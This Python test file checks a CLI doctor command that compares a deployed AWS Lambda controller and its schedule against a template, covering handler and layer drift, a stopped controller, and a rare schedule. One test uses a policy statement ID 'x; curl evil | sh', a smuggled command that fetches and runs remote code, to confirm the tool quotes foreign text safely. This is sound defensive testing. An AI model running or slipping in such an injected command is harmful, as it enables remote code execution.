"""What `crossaccount doctor --centre` says of the controller and its schedule as AWS tells of them; no command that others could write."""

from dataclasses import replace

import pytest
from template_documents import ROOT

from provider.cli.checkups import controller, waking
from provider.cli.checkups.expected import Expected, Place, parsed

TEMPLATE = parsed((ROOT / "templates" / "central.yaml").read_text("utf-8"))
PLACE = Place("222222222222", "aws", "us-east-1")
RULE = "centre-Schedule-1"
CODE = "0123456789abcdef"
EXPECTED = Expected(TEMPLATE, {"ControllerKey": f"controller-{CODE}.zip"}, PLACE, "centre", {"Schedule": RULE})
SOUND = controller.Function(
    role=PLACE.role("controller"),
    code=CODE * 4,
    state="Active",
    environment=EXPECTED.properties("ControllerFunction")["Environment"]["Variables"],
    handler=EXPECTED.properties("ControllerFunction")["Handler"],
)


def test_a_controller_as_its_template_makes_it_has_no_fault() -> None:
    assert list(controller.faults(SOUND, EXPECTED)) == []


@pytest.mark.parametrize(
    "changed",
    [
        replace(SOUND, handler="other.handler"),
        replace(SOUND, layers=("arn:aws:lambda:us-east-1:444444444444:layer:extension:1",)),
    ],
)
def test_other_code_that_runs_with_the_controllers_rights_is_told(changed: controller.Function) -> None:
    """An extension of a layer has the credentials of the function that it runs beside."""
    assert [one.kind for one in controller.faults(changed, EXPECTED)] == ["FunctionCode"]


def test_nobody_is_told_to_start_a_stopped_controller_without_asking() -> None:
    """Restoring the ledger begins with stopping it."""
    (found,) = controller.faults(replace(SOUND, reserved=0), EXPECTED)
    assert "Somebody may be restoring the ledger" in found.what
    (other,) = controller.faults(replace(SOUND, reserved=7), EXPECTED)
    assert "restoring" not in other.what


def test_no_text_of_others_becomes_part_of_a_command() -> None:
    theirs = {"Sid": "x; curl evil | sh", "Effect": "Allow", "Principal": "*", "Action": "lambda:InvokeFunction"}
    (found,) = controller.faults(replace(SOUND, policy={"Statement": [theirs]}), EXPECTED)
    assert "--statement-id 'x; curl evil | sh'`" in found.what


def test_a_schedule_that_comes_seldom_is_told() -> None:
    function, rate = PLACE.arn("lambda", "function:c"), EXPECTED.properties("Schedule")["ScheduleExpression"]
    sound = waking.Schedule(RULE, "ENABLED", rate, frozenset({function}))
    assert list(waking.of_schedule(sound, function, rate)) == []
    seldom = replace(sound, rate="rate(365 days)")
    assert [one.kind for one in waking.of_schedule(seldom, function, rate)] == ["ScheduleIdle"]
